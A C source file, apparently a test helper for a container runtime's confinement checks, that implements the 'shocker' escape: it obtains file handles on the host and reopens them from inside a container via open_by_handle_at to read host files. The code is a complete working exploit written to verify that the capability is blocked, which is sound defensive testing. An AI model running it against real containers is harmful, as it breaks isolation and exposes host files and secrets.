/* SPDX-License-Identifier: Apache-2.0 */
/*
 * handle-attacker: the "shocker" attack of confinement-defaults.sh.  A
 * process with CAP_DAC_READ_SEARCH may open any file of a filesystem by its
 * file handle (open_by_handle_at), wherever that file is: nothing ties the
 * handle to the caller's root or mount, only to the filesystem of the mount
 * fd it passes.  A container whose rootfs lives on the host's filesystem
 * reads the host's files through it.
 *
 *   handle-attacker get PATH
 *       (on the host) print the handle of PATH as TYPE:HEX (no capability
 *       is needed for name_to_handle_at)
 *   handle-attacker read MOUNT TYPE:HEX
 *       (in the container) open the file of the handle through a mount fd
 *       on MOUNT (its root, say) and copy it to stdout; exit 0 when it was
 *       read, 1 when it was refused (the errno on stderr), 2 on bad usage
 *
 * Statically linked: it runs in a busybox rootfs.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MAX_HANDLE 128

static int get(const char *path)
{
	union {
		struct file_handle fh;
		char buf[sizeof(struct file_handle) + MAX_HANDLE];
	} h;
	int mount_id;

	h.fh.handle_bytes = MAX_HANDLE;
	if (name_to_handle_at(AT_FDCWD, path, &h.fh, &mount_id, 0) < 0) {
		fprintf(stderr, "handle-attacker: name_to_handle_at %s: %s\n", path,
		        strerror(errno));
		return 1;
	}
	printf("%d:", h.fh.handle_type);
	for (unsigned int i = 0; i < h.fh.handle_bytes; i++)
		printf("%02x", h.fh.f_handle[i]);
	printf("\n");
	return 0;
}

static int read_by_handle(const char *mount, const char *text)
{
	union {
		struct file_handle fh;
		char buf[sizeof(struct file_handle) + MAX_HANDLE];
	} h;
	const char *hex = strchr(text, ':');
	char buf[4096];
	ssize_t n;
	int mfd, fd;

	if (!hex || strlen(hex + 1) % 2 || strlen(hex + 1) / 2 > MAX_HANDLE) {
		fprintf(stderr, "handle-attacker: bad handle %s\n", text);
		return 2;
	}
	h.fh.handle_type = atoi(text);
	h.fh.handle_bytes = (unsigned int)(strlen(hex + 1) / 2);
	for (unsigned int i = 0; i < h.fh.handle_bytes; i++) {
		unsigned int b;

		if (sscanf(hex + 1 + 2 * i, "%2x", &b) != 1) {
			fprintf(stderr, "handle-attacker: bad handle %s\n", text);
			return 2;
		}
		h.fh.f_handle[i] = (unsigned char)b;
	}
	mfd = open(mount, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0) {
		fprintf(stderr, "handle-attacker: open %s: %s\n", mount, strerror(errno));
		return 2;
	}
	fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		fprintf(stderr, "handle-attacker: open_by_handle_at: %s\n", strerror(errno));
		return 1;
	}
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		if (write(1, buf, (size_t)n) != n)
			return 2;
	return n < 0 ? 2 : 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "get"))
		return get(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "read"))
		return read_by_handle(argv[2], argv[3]);
	fprintf(stderr, "usage: handle-attacker get PATH | read MOUNT TYPE:HEX\n");
	return 2;
}
